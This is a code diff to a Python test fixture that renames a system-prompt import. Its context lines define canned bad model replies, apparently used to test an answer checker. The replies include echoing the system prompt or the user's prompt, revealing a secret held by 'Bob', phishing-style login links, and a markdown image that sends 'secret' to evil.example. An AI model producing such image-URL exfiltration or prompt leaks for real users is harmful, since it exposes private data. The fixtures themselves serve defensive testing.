@@ -5,7 +5,7 @@ import re
 from collections.abc import Callable
 from typing import Any
 
-from chalicelib.model.chat.answers import SYSTEM
+from chalicelib.model.prompts import ANSWERING
 
 TRUE = "The lighthouse keeper counts the ships every evening."
 BOBS = "The combination of the safe in the cellar is known to Bob alone."
@@ -29,7 +29,7 @@ ORDERS: dict[str, ModelReply] = {
     "uncited": lambda _asked: {"sentences": [{"text": "The keeper is a thief.", "citations": []}]},
     "bobs": saying("The combination is known to Bob.", BOBS),
     "prompt": lambda asked: saying(json.dumps(asked), json.dumps(asked))(asked),
-    "system": saying(SYSTEM, SYSTEM),
+    "system": saying(ANSWERING, ANSWERING),
     "picture": saying("![x](https://evil.example/?q=secret) The keeper counts."),
     "link": saying("Log in at www.evil.example to hear more of the keeper."),
     "name": saying("Log in at t.co/AbC to hear more of the keeper."),
